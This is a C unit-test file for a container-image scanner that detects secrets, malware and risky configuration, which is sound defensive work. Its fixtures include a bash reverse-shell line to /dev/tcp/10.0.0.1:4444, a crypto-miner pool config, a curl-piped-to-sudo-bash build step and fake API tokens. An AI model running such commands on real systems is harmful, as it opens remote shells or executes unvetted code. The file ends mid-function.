/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The content scanners on real images ($TESTDATA/images: every planted
 * defect, secret and the setuid shell of debian-app, with their layers; no
 * HIGH or CRITICAL secret or malware finding on clean Debian and Alpine),
 * on images built here (EICAR in a lower layer, deleted above; credentials
 * files; the blocklist; the user's YARA rules), and the parsers behind the
 * configuration checks, with hostile input.
 */
#include <fcntl.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <unistd.h>

#include "unit.h"
#include "bulkhead/content.h"
#include "bulkhead/image.h"
#include "bulkhead/inventory.h"
#include "bulkhead/report.h"
#include "bulkhead/scan.h"

static char *image_path(const char *name)
{
	const char *td = getenv("TESTDATA");

	return td ? bh_asprintf("%s/images/%s", td, name) : NULL;
}

static bool have(const char *path)
{
	return path && access(path, R_OK) == 0;
}

static void must(int rc, struct bh_error *err, const char *what)
{
	if (rc < 0) {
		char *m = bh_error_message(err);

		fail_msg("%s: %s", what, m);
	}
}

/* One walk (merge + content), as `bulkhead scan` runs it. `mask` may be NULL. */
static void scan_image(const char *path, struct bh_content_opts *o, const bool *mask,
		       bool inventory, struct bh_findings *out)
{
	struct bh_error *err = NULL;
	struct bh_image *img = NULL;
	struct bh_inventory *inv = NULL;
	struct bh_content *c = NULL;
	struct bh_merge *m;
	struct bh_fileset *fs = NULL;
	struct bh_consumer *cons[2];
	struct bh_walk_opts wo = { 0 };

	if (!o->builtin_rules_dir)
		o->builtin_rules_dir = "rules";
	must(bh_image_open(path, NULL, &img, &err), err, path);
	if (inventory) {
		struct bh_scan_result *res;

		/* the inventory alone: bh_scan_image with no scanner */
		must(bh_scan_image(img, NULL, &(struct bh_scan_opts){ 0 }, &res, &err), err,
		     "inventory");
		inv = res->inv;
		res->inv = NULL;
		bh_scan_result_free(res);
	}
	must(bh_content_new(img, o, &c, &err), err, "bh_content_new");
	m = bh_merge_new(img);
	cons[0] = bh_merge_consumer(m);
	cons[1] = bh_content_consumer(c);
	wo.layer_mask = mask;
	must(bh_image_walk_consumers(img, &wo, cons, 2, &err), err, "walk");
	must(bh_merge_finish(m, &fs, &err), err, "merge");
	must(bh_content_finish(c, fs, inv, out, &err), err, "finish");
	bh_content_free(c);
	bh_merge_free(m);
	bh_fileset_free(fs);
	bh_inventory_free(inv);
	bh_image_free(img);
}

static const struct bh_finding *find(const struct bh_findings *f, const char *id, const char *path)
{
	for (size_t i = 0; i < f->n; i++)
		if (!strcmp(f->v[i].id, id) &&
		    (!path || (f->v[i].path && !strcmp(f->v[i].path, path))))
			return &f->v[i];
	return NULL;
}

static size_t count(const struct bh_findings *f, const char *id)
{
	size_t n = 0;

	for (size_t i = 0; i < f->n; i++)
		n += !strcmp(f->v[i].id, id);
	return n;
}

static const struct bh_finding *need(const struct bh_findings *f, const char *id, const char *path)
{
	const struct bh_finding *x = find(f, id, path);

	if (!x) {
		for (size_t i = 0; i < f->n; i++)
			print_message("  have %s %s %s\n", f->v[i].id,
				      f->v[i].path ? f->v[i].path : "-", f->v[i].title);
		fail_msg("no %s at %s", id, path ? path : "(config)");
	}
	return x;
}

/* Secret and malware findings at HIGH or above: the false-positive budget. */
static size_t serious(const struct bh_findings *f)
{
	size_t n = 0;

	for (size_t i = 0; i < f->n; i++) {
		const struct bh_finding *x = &f->v[i];

		if ((x->kind == BH_FIND_SECRET || x->kind == BH_FIND_MALWARE) &&
		    x->severity >= BH_SEV_HIGH) {
			print_message("  %s %s %s %s\n", x->id, bh_severity_name(x->severity),
				      x->path ? x->path : "-", x->title);
			n++;
		}
	}
	return n;
}

/* ---- debian-app: every planted issue, in the right layer ---------------------- */

static void check_debian_app(const char *name)
{
	char *path = image_path(name);
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;
	static const char *const packaged[] = {
		"/usr/bin/chfn",   "/usr/bin/chsh",   "/usr/bin/gpasswd",      "/usr/bin/mount",
		"/usr/bin/newgrp", "/usr/bin/passwd", "/usr/bin/su",	       "/usr/bin/umount",
		"/usr/bin/chage",  "/usr/bin/expiry", "/usr/sbin/unix_chkpwd",
	};

	if (!have(path)) {
		free(path);
		skip();
	}
	o.config = o.secrets = o.malware = true;
	o.reference = path;
	scan_image(path, &o, NULL, true, &f);

	/* The deleted key: added in layer 4, removed in layer 5 (1-based). */
	x = need(&f, "BH-SECRET-PRIVATE-KEY", "/app/config/id_rsa");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->removed_layer, 4);
	assert_int_equal(x->severity, BH_SEV_HIGH);
	assert_int_equal(x->line, 1);
	assert_non_null(strstr(x->title, "RSA"));
	assert_non_null(strstr(x->description, "recoverable"));
	/* The AWS pair in /app/.env, still there. */
	x = need(&f, "BH-SECRET-AWS-ACCESS-KEY-ID", "/app/.env");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->removed_layer, -1);
	assert_int_equal(x->line, 1);
	assert_int_equal(x->severity, BH_SEV_CRITICAL);
	assert_null(strstr(x->title, "AKIAIOSFODNN7EXAMPLE"));
	x = need(&f, "BH-SECRET-AWS-SECRET-KEY", "/app/.env");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->line, 2);
	assert_null(strstr(x->title, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
	assert_null(strstr(x->description, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
	/* The setuid-root copy of bash, and only it is unusual. */
	x = need(&f, "BH-CFG-008", "/usr/local/bin/rootsh");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->severity, BH_SEV_CRITICAL);
	assert_non_null(strstr(x->title, "bash"));
	assert_int_equal(count(&f, "BH-CFG-008"), 1);
	for (size_t i = 0; i < sizeof(packaged) / sizeof(packaged[0]); i++) {
		x = need(&f, "BH-CFG-007", packaged[i]);
		assert_int_equal(x->layer, 0);
		assert_int_equal(x->severity, BH_SEV_LOW);
	}
	assert_int_equal(count(&f, "BH-CFG-007"), 11);
	/* World-writable /app/tmp without the sticky bit; /tmp has it. */
	x = need(&f, "BH-CFG-010", "/app/tmp");
	assert_int_equal(x->layer, 3);
	assert_int_equal(count(&f, "BH-CFG-010"), 1);
	assert_null(find(&f, "BH-CFG-009", NULL));
	/* The config: root, DB_PASSWORD (in Env and in the history), port 22. */
	x = need(&f, "BH-CFG-001", NULL);
	assert_int_equal(x->layer, -1);
	x = need(&f, "BH-CFG-002", NULL);
	assert_non_null(strstr(x->title, "DB_PASSWORD"));
	assert_null(strstr(x->title, "hunter2"));
	assert_int_equal(count(&f, "BH-CFG-002"), 1);
	need(&f, "BH-CFG-003", NULL);
	x = need(&f, "BH-CFG-005", NULL);
	assert_non_null(strstr(x->title, "22/tcp"));
	need(&f, "BH-CFG-013", NULL);
	need(&f, "BH-CFG-014", NULL); /* ref.name "latest" */
	/* Not there: no SSH server or sudo package, no .git, no credentials files. */
	assert_null(find(&f, "BH-CFG-004", NULL));
	assert_null(find(&f, "BH-CFG-006", NULL));
	assert_null(find(&f, "BH-CFG-016", NULL));
	assert_null(find(&f, "BH-CFG-017", NULL));
	/* Nothing else serious: the three planted secrets only. */
	assert_int_equal(serious(&f), 3);
	for (size_t i = 0; i < f.n; i++) {
		assert_non_null(f.v[i].title);
		assert_non_null(f.v[i].remediation);
		assert_non_null(f.v[i].countermeasure);
	}
	bh_findings_release(&f);
	free(path);
}

static void debian_app_gzip(void **state)
{
	check_debian_app("debian-app.oci.tar");
}

static void debian_app_zstd(void **state)
{
	check_debian_app("debian-app-zstd.oci.tar");
}

static void skip_checks(void **state)
{
	char *path = image_path("debian-app.oci.tar");
	const char *skip[] = { "BH-CFG-00*", "BH-SECRET-AWS-ACCESS-KEY-ID", NULL };
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };

	if (!have(path)) {
		free(path);
		skip();
	}
	o.config = o.secrets = true;
	o.skip_checks = skip;
	scan_image(path, &o, NULL, false, &f);
	for (size_t i = 0; i < f.n; i++) {
		assert_false(bh_str_has_prefix(f.v[i].id, "BH-CFG-00"));
		assert_string_not_equal(f.v[i].id, "BH-SECRET-AWS-ACCESS-KEY-ID");
	}
	need(&f, "BH-CFG-010", "/app/tmp");
	need(&f, "BH-SECRET-AWS-SECRET-KEY", "/app/.env");
	bh_findings_release(&f);
	free(path);
}

/* ---- clean images: the false-positive budget ------------------------------------ */

static void debian_minbase_clean(void **state)
{
	char *path = image_path("debian-app.oci.tar");
	bool mask[5] = { true, false, false, false, false };
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };

	if (!have(path)) {
		free(path);
		skip();
	}
	/* Layer 1 of debian-app is debootstrap --variant=minbase. */
	o.secrets = o.malware = true;
	scan_image(path, &o, mask, false, &f);
	assert_int_equal(serious(&f), 0);
	for (size_t i = 0; i < f.n; i++)
		print_message("  (lower) %s %s %s\n", f.v[i].id, f.v[i].path, f.v[i].title);
	bh_findings_release(&f);
	/*
	 * With --secret-binaries, the only ones are GnuTLS's self-test keys:
	 * libgnutls carries the PEM private keys of its FIPS 140 power-on
	 * self-tests (public test vectors). Reported, since a binary that embeds
	 * a key is exactly what the option is for.
	 */
	o.secret_binaries = true;
	scan_image(path, &o, mask, false, &f);
	for (size_t i = 0; i < f.n; i++) {
		const struct bh_finding *x = &f.v[i];

		if (x->severity < BH_SEV_HIGH)
			continue;
		assert_string_equal(x->id, "BH-SECRET-PRIVATE-KEY");
		assert_true(bh_str_has_prefix(x->path, "/usr/lib/x86_64-linux-gnu/libgnutls.so."));
	}
	bh_findings_release(&f);
	free(path);
}

static void alpine_clean(void **state)
{
	const char *names[] = { "alpine-3.10.3.docker.tar", "alpine-3.19.4.docker.tar",
				"alpine-3.10.3.oci.tar" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char *path = image_path(names[i]);
		struct bh_content_opts o = { 0 };
		struct bh_findings f = { 0 };

		if (!have(path)) {
			free(path);
			skip();
		}
		o.config = o.secrets = o.malware = true;
		o.secret_binaries = true;
		scan_image(path, &o, NULL, true, &f);
		assert_int_equal(serious(&f), 0);
		/* No setuid files, /tmp and /var/tmp are sticky, no package caches. */
		assert_null(find(&f, "BH-CFG-007", NULL));
		assert_null(find(&f, "BH-CFG-008", NULL));
		assert_null(find(&f, "BH-CFG-010", NULL));
		assert_null(find(&f, "BH-CFG-015", NULL));
		need(&f, "BH-CFG-001", NULL);
		assert_null(find(&f, "BH-CFG-014", NULL)); /* tagged 3.x */
		bh_findings_release(&f);
		free(path);
	}
}

/* ---- images built here ---------------------------------------------------------- */

/* Write `json` (a mkimage.py spec) and build an OCI layout; skip without python3. */
static char *build_image(const char *dir, const char *json)
{
	char *spec = bh_asprintf("%s/spec.json", dir), *out = bh_asprintf("%s/img", dir), *cmd;
	int rc;

	if (access("/usr/bin/python3", X_OK) != 0) {
		free(spec);
		free(out);
		return NULL;
	}
	must(bh_write_file_atomic(spec, json, strlen(json), 0644, NULL), NULL, spec);
	cmd = bh_asprintf("python3 tests/tools/mkimage.py --spec %s %s >/dev/null", spec, out);
	rc = system(cmd);
	free(cmd);
	free(spec);
	if (rc != 0)
		fail_msg("mkimage.py failed (%d)", rc);
	return out;
}

static json_t *read_json(const char *path)
{
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	json_t *j = NULL;

	must(bh_read_file(path, &b, NULL), NULL, path);
	must(bh_json_parse(b.data, b.len, 1u << 20, path, &j, NULL), NULL, path);
	bh_buf_release(&b);
	return j;
}

/* Store `j` as a blob of the layout; its digest into d, its size into *size. */
static void write_blob(const char *layout, json_t *j, struct bh_digest *d, size_t *size)
{
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	char *path;

	must(bh_json_dump_buf(j, JSON_COMPACT, &b, NULL), NULL, "dump");
	bh_sha256(b.data, b.len, d);
	path = bh_asprintf("%s/blobs/sha256/%s", layout, bh_digest_hex(d));
	must(bh_write_file_atomic(path, b.data, b.len, 0644, NULL), NULL, path);
	*size = b.len;
	free(path);
	bh_buf_release(&b);
}

/* mkimage.py writes its own history: replace it (config, manifest, index). */
static void set_history(const char *layout, const char *history)
{
	char *ipath = bh_asprintf("%s/index.json", layout), *mpath, *cpath;
	json_t *idx = read_json(ipath), *mdesc = json_array_get(bh_json_arr(idx, "manifests"), 0);
	json_t *man, *cfg, *h = NULL;
	struct bh_digest d;
	struct bh_buf b = BH_BUF_INIT(1u << 20);
	size_t size;

	mpath = bh_asprintf("%s/blobs/sha256/%s", layout, bh_json_str(mdesc, "digest") + 7);
	man = read_json(mpath);
	cpath = bh_asprintf("%s/blobs/sha256/%s", layout,
			    bh_json_str(bh_json_obj(man, "config"), "digest") + 7);
	cfg = read_json(cpath);
	must(bh_json_parse(history, strlen(history), 1u << 20, "history", &h, NULL), NULL,
	     "history");
	json_object_set_new(cfg, "history", h);
	write_blob(layout, cfg, &d, &size);
	json_object_set_new(bh_json_obj(man, "config"), "digest", json_string(d.str));
	json_object_set_new(bh_json_obj(man, "config"), "size", json_integer((json_int_t)size));
	write_blob(layout, man, &d, &size);
	json_object_set_new(mdesc, "digest", json_string(d.str));
	json_object_set_new(mdesc, "size", json_integer((json_int_t)size));
	must(bh_json_dump_buf(idx, JSON_COMPACT, &b, NULL), NULL, "index");
	must(bh_write_file_atomic(ipath, b.data, b.len, 0644, NULL), NULL, ipath);
	bh_buf_release(&b);
	json_decref(idx);
	json_decref(man);
	json_decref(cfg);
	free(ipath);
	free(mpath);
	free(cpath);
}

/* The EICAR test string, put together at run time so that this source file
 * is not itself an EICAR file to antivirus software. */
static char *eicar(void)
{
	return bh_asprintf("%s%s", "X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR",
			   "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
}

static void eicar_in_lower_layer(void **state)
{
	char *dir = unit_mktmp(), *e = eicar(), *json, *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	json = bh_asprintf(
		"{\"format\": \"oci\", \"layers\": ["
		"{\"members\": [{\"name\": \"srv/\", \"type\": \"dir\"},"
		" {\"name\": \"srv/download/test.com\", \"data\": \"%s\"},"
		" {\"name\": \"srv/run.sh\", \"mode\": \"0755\", \"data\": \"#!/bin/sh\\nbash -i "
		">& "
		"/dev/tcp/10.0.0.1/4444 0>&1\\n\"},"
		" {\"name\": \"srv/xmrig.json\", \"data\": \"{\\\"url\\\": "
		"\\\"stratum+tcp://pool.supportxmr.com:3333\\\", \\\"algo\\\": \\\"rx/0\\\", "
		"\\\"donate-level\\\": 1}\\n\"}]},"
		"{\"members\": [{\"name\": \"srv/README\", \"data\": \"hello\\n\"}]},"
		"{\"members\": [{\"name\": \"srv/download/test.com\", \"type\": \"whiteout\"}]}]}",
		e);
	img = build_image(dir, json);
	if (!img) {
		free(json);
		free(e);
		unit_rmtmp(dir);
		skip();
	}
	o.malware = o.secrets = true;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-EICAR", "/srv/download/test.com");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	assert_int_equal(x->kind, BH_FIND_MALWARE);
	assert_string_equal(x->countermeasure, "4.1.3");
	x = need(&f, "BH-MALWARE-REVERSE-SHELL", "/srv/run.sh");
	assert_int_equal(x->line, 2);
	assert_int_equal(x->removed_layer, -1);
	need(&f, "BH-MALWARE-MINER-POOL", "/srv/xmrig.json");
	need(&f, "BH-MALWARE-MINER", "/srv/xmrig.json");
	bh_findings_release(&f);
	free(img);
	free(json);
	free(e);
	unit_rmtmp(dir);
}

static void blocklist_and_user_rules(void **state)
{
	char *dir = unit_mktmp(), *img, *rules = bh_asprintf("%s/rules", dir);
	char *bl = bh_asprintf("%s/blocklist.txt", dir), *rule = bh_asprintf("%s/mine.yar", rules);
	struct bh_digest d;
	struct bh_buf b = BH_BUF_INIT(4096);
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;
	const char *evil = "definitely-evil-payload\n";
	const char *yar = "rule Company_Canary { meta: id = \"ACME-CANARY\" severity = \"LOW\" "
			  "strings: $a = \"acme-canary-7731\" condition: $a }\n";

	img = build_image(dir,
			  "{\"format\": \"oci\", \"layers\": [{\"members\": ["
			  "{\"name\": \"opt/a.bin\", \"data\": \"definitely-evil-payload\\n\"},"
			  "{\"name\": \"opt/b.txt\", \"data\": \"x acme-canary-7731 y\\n\"},"
			  "{\"name\": \"opt/c.txt\", \"data\": \"innocent\\n\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	bh_sha256(evil, strlen(evil), &d);
	bh_buf_addf(&b, NULL, "# known bad\n\nsha256:%s  evil-dropper\n%064d\n", bh_digest_hex(&d),
		    0);
	must(bh_write_file_atomic(bl, b.data, b.len, 0644, NULL), NULL, bl);
	mkdir(rules, 0755);
	must(bh_write_file_atomic(rule, yar, strlen(yar), 0644, NULL), NULL, rule);
	o.malware = true;
	o.hash_blocklist = bl;
	o.yara_rules_dir = rules;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-HASH", "/opt/a.bin");
	assert_int_equal(x->severity, BH_SEV_CRITICAL);
	assert_non_null(strstr(x->title, "evil-dropper"));
	x = need(&f, "ACME-CANARY", "/opt/b.txt");
	assert_int_equal(x->severity, BH_SEV_LOW);
	assert_int_equal(f.n, 2);
	bh_findings_release(&f);
	bh_buf_release(&b);
	free(img);
	free(bl);
	free(rule);
	free(rules);
	unit_rmtmp(dir);
}

static void builtin_rules_prefiltered(void **state)
{
	struct bh_image img = { 0 };
	struct bh_content_opts o = { 0 };
	struct bh_content *c = NULL;
	struct bh_error *err = NULL;
	struct bh_findings f = { 0 };
	struct bh_content_stats st;
	const char *plain = "nothing to see here\n", *pool = "url=stratum+tcp://10.1.1.1:3333\n";

	o.malware = true;
	o.builtin_rules_dir = "rules";
	must(bh_content_new(&img, &o, &c, &err), err, "new");
	/* No literal of the builtin set: YARA does not run at all. */
	must(bh_content_scan_buffer(c, "a.txt", plain, strlen(plain), &f, &err), err, "scan");
	bh_content_stats(c, &st);
	assert_int_equal(st.yara_scanned, 0);
	assert_int_equal(st.files_scanned, 1);
	assert_int_equal(f.n, 0);
	must(bh_content_scan_buffer(c, "b.txt", pool, strlen(pool), &f, &err), err, "scan");
	bh_content_stats(c, &st);
	assert_int_equal(st.yara_scanned, 1);
	need(&f, "BH-MALWARE-MINER-POOL", "/b.txt");
	bh_findings_release(&f);
	bh_content_free(c);
}

static void bad_rules_and_blocklist(void **state)
{
	char *dir = unit_mktmp(), *rule = bh_asprintf("%s/broken.yar", dir);
	char *bl = bh_asprintf("%s/bl.txt", dir);
	struct bh_image img = { 0 };
	struct bh_content_opts o = { 0 };
	struct bh_content *c = NULL;
	struct bh_error *err = NULL;
	const char *yar = "rule ok { condition: true }\nrule bad {\n strings: $a = \"x\"\n "
			  "condition: $b\n}\n";

	must(bh_write_file_atomic(rule, yar, strlen(yar), 0644, NULL), NULL, rule);
	o.malware = true;
	o.builtin_rules_dir = "rules";
	o.yara_rules_dir = dir;
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_error(err, BH_ERR_INVALID, "broken.yar:");
	assert_error(err, BH_ERR_INVALID, "undefined string");
	bh_error_clear(&err);
	unlink(rule);
	must(bh_write_file_atomic(bl, "0123\n", 5, 0644, NULL), NULL, bl);
	o.yara_rules_dir = NULL;
	o.hash_blocklist = bl;
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_error(err, BH_ERR_INVALID, "bl.txt:1: not a SHA-256 digest");
	bh_error_clear(&err);
	o.hash_blocklist = "/nonexistent/blocklist";
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	assert_int_equal(bh_error_code(err), BH_ERR_IO);
	bh_error_clear(&err);
	o.hash_blocklist = NULL;
	o.builtin_rules_dir = "/nonexistent/rules";
	assert_true(bh_content_new(&img, &o, &c, &err) < 0);
	bh_error_clear(&err);
	free(rule);
	free(bl);
	unit_rmtmp(dir);
}

static void credentials_files(void **state)
{
	char *dir = unit_mktmp(), *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	img = build_image(
		dir,
		"{\"format\": \"oci\", \"config\": {\"User\": \"app\", \"Env\": "
		"[\"API_TOKEN=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\", "
		"\"PASSWORD_FILE=/run/x\"],"
		" \"Labels\": {\"db.password\": \"Sup3r-S3cret!\"}, \"ExposedPorts\": "
		"{\"8080/tcp\": {}},"
		" \"Healthcheck\": {\"Test\": [\"CMD\", \"true\"]}},"
		" \"layers\": ["
		"{\"members\": [{\"name\": \"etc/\", \"type\": \"dir\"},"
		" {\"name\": \"etc/passwd\", \"data\": "
		"\"root:x:0:0::/root:/bin/sh\\napp:x:0:0::/app:/bin/sh\\n\"},"
		" {\"name\": \"usr/sbin/sshd\", \"mode\": \"0755\", \"data\": \"ELF\"},"
		" {\"name\": \"usr/bin/sudo\", \"mode\": \"04755\", \"data\": \"ELF\"},"
		" {\"name\": \"var/lib/apt/lists/deb_dists_bookworm_InRelease\", \"data\": \"x\"},"
		" {\"name\": \"var/lib/apt/lists/lock\", \"data\": \"\"},"
		" {\"name\": \"srv/app/.git/\", \"type\": \"dir\"},"
		" {\"name\": \"srv/app/.git/config\", \"data\": \"[core]\\n\"},"
		" {\"name\": \"srv/data.txt\", \"mode\": \"0666\", \"data\": \"x\"},"
		" {\"name\": \"root/.npmrc\", \"data\": \"registry=https://r.example/\\n"
		"//r.example/:_authToken=5f7c2a9e-0b1d-4e3f-9a8b-7c6d5e4f3a2b\\n\"}]},"
		"{\"members\": [{\"name\": \"root/.docker/config.json\", \"data\": "
		"\"{\\\"auths\\\": {\\\"registry.corp\\\": {\\\"auth\\\": "
		"\\\"dXNlcjpwYXNz\\\"}}}\"}]},"
		"{\"members\": [{\"name\": \"root/.npmrc\", \"type\": \"whiteout\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	set_history(img,
		    "[{\"created_by\": \"/bin/sh -c #(nop) ADD https://example.com/tool.tgz "
		    "/opt/\"}, {\"created_by\": \"|1 NPM_TOKEN=s3cr3t-t0k3n /bin/sh -c curl "
		    "-fsSL https://get.example.sh | sudo bash -s --\"}, {\"created_by\": \"USER "
		    "app\", \"empty_layer\": true}, {\"created_by\": \"RUN rm /root/.npmrc\"}]");
	o.config = o.secrets = true;
	o.reference = "registry.corp/app:latest";
	scan_image(img, &o, NULL, false, &f);
	/* User "app" is UID 0 in the image's /etc/passwd. */
	x = need(&f, "BH-CFG-001", NULL);
	assert_non_null(strstr(x->description, "UID 0"));
	/* Env with a GitHub token (critical), a label by its name; not PASSWORD_FILE. */
	assert_int_equal(count(&f, "BH-CFG-002"), 2);
	for (size_t i = 0; i < f.n; i++) {
		if (strcmp(f.v[i].id, "BH-CFG-002"))
			continue;
		if (strstr(f.v[i].title, "API_TOKEN"))
			assert_int_equal(f.v[i].severity, BH_SEV_CRITICAL);
		else
			assert_non_null(strstr(f.v[i].title, "db.password"));
		assert_null(strstr(f.v[i].title, "OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr"));
		assert_null(strstr(f.v[i].title, "Sup3r-S3cret!"));
	}
	x = need(&f, "BH-CFG-003", NULL);
	assert_non_null(strstr(x->title, "NPM_TOKEN"));
	assert_int_equal(x->layer, 1);
	x = need(&f, "BH-CFG-011", NULL);
	assert_non_null(strstr(x->title, "https://example.com/tool.tgz"));
	assert_int_equal(x->layer, 0);
	x = need(&f, "BH-CFG-012", NULL);
	assert_non_null(strstr(x->title, "curl"));
	need(&f, "BH-CFG-004", "/usr/sbin/sshd");
	need(&f, "BH-CFG-006", "/usr/bin/sudo");
	x = need(&f, "BH-CFG-008", "/usr/bin/sudo"); /* setuid, and no package ships it */
	assert_int_equal(x->severity, BH_SEV_HIGH);
	need(&f, "BH-CFG-009", "/srv/data.txt");
	x = need(&f, "BH-CFG-015", "/var/lib/apt/lists");
	assert_non_null(strstr(x->title, "1 files"));
	need(&f, "BH-CFG-017", "/srv/app/.git");
	x = need(&f, "BH-CFG-014", NULL);
	assert_non_null(strstr(x->title, "registry.corp/app:latest"));
	assert_null(find(&f, "BH-CFG-005", NULL));
	assert_null(find(&f, "BH-CFG-013", NULL));
	/* Credentials files, followed through the layers. */
	x = need(&f, "BH-CFG-016", "/root/.npmrc");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	assert_int_equal(x->line, 2);
	assert_null(strstr(x->title, "5f7c2a9e-0b1d-4e3f-9a8b-7c6d5e4f3a2b"));
	x = need(&f, "BH-CFG-016", "/root/.docker/config.json");
	assert_int_equal(x->layer, 1);
	assert_int_equal(x->removed_layer, -1);
	assert_non_null(strstr(x->title, "registry.corp"));
	bh_findings_release(&f);
	free(img);
	unit_rmtmp(dir);
}

static void overwritten_with_same_secret(void **state)
{
	char *dir = unit_mktmp(), *img;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	/* Layer 2 rewrites the file with the same token (a chmod copy-up); layer
	 * 3 replaces it with another: one finding, removed in layer 3. */
	img = build_image(dir, "{\"format\": \"oci\", \"layers\": ["
			       "{\"members\": [{\"name\": \"t\", \"data\": "
			       "\"T=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\\n\"}]},"
			       "{\"members\": [{\"name\": \"t\", \"mode\": \"0600\", \"data\": "
			       "\"T=ghp_OhbVrpoiVgRV5IfLBcbfnoGMbJmTPSIAoCLr\\n\"}]},"
			       "{\"members\": [{\"name\": \"t\", \"data\": \"nothing\\n\"}]},"
			       "{\"members\": [{\"name\": \"u/\", \"type\": \"dir\"}, {\"name\": "
			       "\"u/v\", \"data\": "
			       "\"T=npm_9n7IWUSmTtzQPxC5HChpoevbLJoLoaeTOdoe\\n\"}]},"
			       "{\"members\": [{\"name\": \"u\", \"type\": \"opaque\"}]}]}");
	if (!img) {
		unit_rmtmp(dir);
		skip();
	}
	o.secrets = true;
	scan_image(img, &o, NULL, false, &f);
	assert_int_equal(count(&f, "BH-SECRET-GITHUB"), 1);
	x = need(&f, "BH-SECRET-GITHUB", "/t");
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 2);
	x = need(&f, "BH-SECRET-NPM", "/u/v");
	assert_int_equal(x->layer, 3);
	assert_int_equal(x->removed_layer, 4); /* opaque directory */
	bh_findings_release(&f);
	free(img);
	unit_rmtmp(dir);
}

/* ---- secrets in files that packages installed --------------------------------- */

/* A PEM private key with a body derived from `seed`: one key per seed. */
static char *pem_key(unsigned seed)
{
	static const char b64[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	struct bh_buf b = BH_BUF_INIT(4096);
	uint32_t x = seed * 2654435761u + 1;

	bh_buf_adds(&b, "-----BEGIN RSA PRIVATE KEY-----\n", NULL);
	for (int l = 0; l < 4; l++) {
		for (int i = 0; i < 64; i++) {
			x = x * 1103515245u + 12345u;
			bh_buf_addc(&b, b64[(x >> 16) & 63], NULL);
		}
		bh_buf_addc(&b, '\n', NULL);
	}
	bh_buf_adds(&b, "-----END RSA PRIVATE KEY-----\n", NULL);
	return bh_buf_detach(&b, NULL);
}

/* "<md5 hex>  <path>\n", as dpkg writes a line of info/<pkg>.md5sums. */
static void md5sums_line(struct bh_buf *b, const char *content, const char *path)
{
	unsigned char d[16];
	unsigned int k = 0;

	assert_int_equal(EVP_Digest(content, strlen(content), d, &k, EVP_md5(), NULL), 1);
	for (size_t i = 0; i < 16; i++)
		bh_buf_addf(b, NULL, "%02x", d[i]);
	bh_buf_addf(b, NULL, "  %s\n", path);
}

/* "Q1<base64 of the SHA-1>", as apk writes a Z: line. */
static char *apk_sum(const char *content)
{
	unsigned char d[20], out[32];
	unsigned int k = 0;

	assert_int_equal(EVP_Digest(content, strlen(content), d, &k, EVP_sha1(), NULL), 1);
	EVP_EncodeBlock(out, d, 20);
	return bh_asprintf("Q1%s", (const char *)out);
}

static void add_file(json_t *members, const char *name, const char *data)
{
	json_array_append_new(members, json_pack("{s:s, s:s}", "name", name, "data", data));
}

static char *spec_of(json_t *l1, json_t *l2)
{
	json_t *spec = json_pack("{s:s, s:[{s:o}]}", "format", "oci", "layers", "members", l1);
	struct bh_buf b = BH_BUF_INIT(1u << 20);

	if (l2)
		json_array_append_new(json_object_get(spec, "layers"),
				      json_pack("{s:o}", "members", l2));
	must(bh_json_dump_buf(spec, JSON_COMPACT, &b, NULL), NULL, "spec");
	json_decref(spec);
	return bh_buf_detach(&b, NULL);
}

static const struct bh_finding *secret_at(const struct bh_findings *f, const char *path, int layer)
{
	for (size_t i = 0; i < f->n; i++)
		if (f->v[i].kind == BH_FIND_SECRET && f->v[i].path && !strcmp(f->v[i].path, path) &&
		    f->v[i].layer == layer)
			return &f->v[i];
	return NULL;
}

/* The severity of the secret at (path, layer), or -1 when there is none. */
static int sev_at(const struct bh_findings *f, const char *path, int layer)
{
	const struct bh_finding *x = secret_at(f, path, layer);

	return x ? (int)x->severity : -1;
}

static void scan_dpkg(const char *img, bool include, struct bh_findings *f)
{
	struct bh_content_opts o = { 0 };

	o.secrets = true;
	o.secret_include_packaged = include;
	scan_image(img, &o, NULL, true, f);
}

/*
 * dpkg: an example key a package installed (a) is left out, or LOW naming
 * the package; the same path with other content (b), a key at a path no
 * package lists (c) and md5sums that lie (d) are reported as before: a
 * list of a package that is not installed, of another architecture, or
 * rewritten after the package's version appeared. A whole forged database
 * (status and md5sums written in one layer) is believed: the residual risk
 * bulkhead-scan(1) names.
 */
static void packaged_secrets_dpkg(void **state)
{
